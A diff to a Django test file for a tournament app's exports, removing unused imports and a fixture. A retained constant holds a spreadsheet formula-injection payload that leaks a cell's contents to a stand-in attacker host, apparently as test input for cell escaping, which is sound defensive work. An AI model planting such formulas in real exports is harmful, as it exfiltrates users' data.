@@ -15,8 +15,6 @@ from django.urls import reverse
 from arbiter.exports import escape_cell
 from arbiter.models import Tournament
 from pairing.services import knockout as knockout_service
-from pairing.services import rounds
-from tests.pairing.conftest import play
 
 pytestmark = pytest.mark.django_db
 
@@ -24,15 +22,6 @@ SCHEMA = json.loads(
     (Path(__file__).resolve().parents[3] / "docs" / "schema" / "tournament-v1.json").read_text()
 )
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
-
-
-@pytest.fixture
-def played_open(anna, trondheim_open):
-    play(anna, rounds.pair_next_round(anna, trondheim_open))
-    play(anna, rounds.pair_next_round(anna, trondheim_open), seed=2)
-    trondheim_open.is_published = True
-    trondheim_open.save()
-    return trondheim_open
 
 
 def get(client, name, tournament, query=""):
